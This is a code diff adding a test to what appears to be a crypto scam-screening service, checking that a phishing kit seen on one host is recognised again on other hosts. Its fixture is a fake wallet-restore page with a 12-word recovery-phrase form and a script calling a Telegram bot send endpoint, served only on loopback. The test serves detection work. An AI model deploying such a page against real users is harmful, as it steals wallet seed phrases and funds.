@@ -84,3 +84,32 @@ t.test('a hostile page (NUL in the title, an emoji cut at the title limit) is sc
     t.equal(fb.status, 201, `${path}: the scan was stored`)
   }
 })
+
+t.test('kit memory: a kit blocked with wallet lures is recognised on other hosts', async (t) => {
+  const inputs = Array.from({ length: 12 }, (_, i) => `<input type="text" name="w${i + 1}">`).join('')
+  const kitPage = (receiver: string) => `<html><head><title>Restore</title><script>const r='${receiver}';fetch('https://api.telegram.org/bot123:abc/sendMessage')</script></head>` +
+    `<body><h2>Enter your 12-word recovery phrase to restore your wallet</h2><form>${inputs}<button>Restore</button></form></body></html>`
+  const plain = '<html><head><title>Blog</title><script>console.log(1)</script></head><body><p>hello</p></body></html>'
+  // three loopback hosts (127.0.0.1-3) serving the same kit with a different receiver address each
+  const sites = await Promise.all([1, 2, 3].map(async (n) => {
+    const site = http.createServer((req, res) => { res.setHeader('content-type', 'text/html'); res.end(req.url === '/plain' ? plain : kitPage('0x' + String(n).repeat(40))) })
+    await new Promise<void>((resolve) => site.listen(0, `127.0.0.${n}`, resolve))
+    t.teardown(() => site.close())
+    return `http://127.0.0.${n}:${(site.address() as { port: number }).port}`
+  }))
+  const srv = await startTestServer({ background: false, env: { UNSAFE_ALLOW_PRIVATE_WEBHOOK_TARGETS: '1' } })
+  t.teardown(() => srv.close())
+  const key = await srv.key('kits', 'growth')
+  const scan = async (url: string) => (await srv.req('POST', '/api/v1/screening/scan', { key, body: { type: 'url', chain: 'evm', value: url } })).body
+  const known = (r: any) => r.findings.find((f: any) => f.kind === 'page.known_kit')
+
+  const first = await scan(`${sites[0]}/claim`)
+  t.equal(first.verdict, 'block', 'the kit page itself is blocked (recovery-phrase form)')
+  t.equal(known(first), undefined, 'nothing is known about a kit seen for the first time')
+  t.equal(known(await scan(`${sites[0]}/other-path`)), undefined, 'the same host again is not a new domain')
+  const second = await scan(`${sites[1]}/claim`)
+  t.equal(second.metadata.scamDna.fingerprint, first.metadata.scamDna.fingerprint, 'a new receiver address keeps the fingerprint')
+  t.match(known(second), { severity: 'high', source: { type: 'heuristic', name: 'page.known_kit' }, data: { otherHosts: 1 } }, 'recognised on a second host')
+  t.match(known(await scan(`${sites[2]}/claim`)), { severity: 'critical', data: { otherHosts: 2 } }, 'blocked on two hosts before: critical')
+  t.equal(known(await scan(`${sites[2]}/plain`)), undefined, 'another page on the same host is not the kit')
+})
